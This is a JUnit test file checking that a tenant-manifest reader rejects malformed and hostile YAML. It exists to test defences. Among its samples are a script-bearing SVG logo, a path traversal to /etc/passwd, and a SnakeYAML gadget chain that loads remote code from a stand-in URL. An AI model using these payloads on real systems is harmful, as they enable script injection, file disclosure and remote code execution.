package io.gongzhi.platform.tenancy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gongzhi.platform.tenancy.control.InvalidManifestException;
import io.gongzhi.platform.tenancy.control.TenantManifest;
import io.gongzhi.platform.tenancy.control.TenantManifests;
import io.gongzhi.platform.testsupport.Deployments;
import io.gongzhi.platform.testsupport.TestTenants;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Manifests are read strictly: what an operator gets wrong is named, file and field. */
class TenantManifestsTest {

    @TempDir
    Path dir;

    @Test
    void theFiveDemoManifestsAreValid() throws IOException {
        List<Path> files = TenantManifests.files(Deployments.tenantsDir());
        assertEquals(5, files.size());
        for (Path f : files) {
            TenantManifest m = TenantManifests.read(f);
            assertEquals(f.getFileName().toString(), m.id() + ".yaml");
            assertTrue(m.logoSvg() != null && m.logoSvg().contains("<svg"), m.id() + " has its logo");
            assertTrue(!m.hosts().isEmpty(), m.id() + " has a portal host");
        }
    }

    @Test
    void aValidManifestIsReadWithAllItsFields() throws IOException {
        TenantManifest m = TenantManifests.read(write("alpha", TestTenants.manifest("alpha", "active")));
        assertEquals("alpha", m.id());
        assertEquals("测试区alpha", m.nameZh());
        assertEquals(List.of("alpha.test.localhost"), m.hosts());
        assertEquals(">=1.0.0 & <2.0.0", m.pluginVersion());
        assertEquals("gov-alpha", m.realm());
        assertEquals("Asia/Shanghai", m.timezone());
        assertTrue(!m.suspended());
        assertEquals(64, m.hash().length());
    }

    @Test
    void theHashChangesWithTheContent() throws IOException {
        String one = TenantManifests.read(write("alpha", TestTenants.manifest("alpha", "active")))
                .hash();
        String two = TenantManifests.read(write("alpha", TestTenants.manifest("alpha", "suspended")))
                .hash();
        assertNotEquals(one, two);
    }

    @Test
    void mistakesAreNamedByFileAndField() throws IOException {
        String good = TestTenants.manifest("alpha", "active");
        assertMessage(good.replace("  en: Test district alpha\n", ""), "names.en is required");
        assertMessage(good.replace("\"#123456\"", "red"), "branding.primary 'red' must be a colour #rrggbb");
        assertMessage(good.replace("kind: district", "kind: planet"), "kind must be one of");
        assertMessage(good.replace("status: active", "status: paused"), "status must be 'active' or 'suspended'");
        assertMessage(good.replace("[alpha.test.localhost]", "[\"not a host\"]"), "is not a host name");
        assertMessage("id: alpha\nnames: [oops\n", "is not valid YAML");
        assertMessage(good.replace("id: alpha", "id: beta"), "must match the file name alpha.yaml");
        assertMessage("- just\n- a list\n", "must be a mapping");
    }

    @Test
    void aLogoWithScriptIsRefusedAndALogoOutsideTheDirectoryToo() throws IOException {
        Files.writeString(dir.resolve("evil.svg"), "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
        String good = TestTenants.manifest("alpha", "active");
        assertMessage(good.replace("  accent:", "  logo: evil.svg\n  accent:"), "plain SVG image without scripts");
        assertMessage(good.replace("  accent:", "  logo: ../../etc/passwd\n  accent:"), "must stay inside");
    }

    @Test
    void unsafeYamlTagsAreNotConstructed() throws IOException {
        String hostile =
                "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";
        assertThrows(InvalidManifestException.class, () -> TenantManifests.read(write("alpha", hostile)));
    }

    private void assertMessage(String manifest, String expected) throws IOException {
        InvalidManifestException e =
                assertThrows(InvalidManifestException.class, () -> TenantManifests.read(write("alpha", manifest)));
        assertTrue(e.getMessage().contains(expected), e.getMessage());
        assertTrue(e.getMessage().contains("alpha.yaml"), e.getMessage());
    }

    private Path write(String id, String text) throws IOException {
        Path file = dir.resolve(id + ".yaml");
        Files.writeString(file, text);
        return file;
    }
}
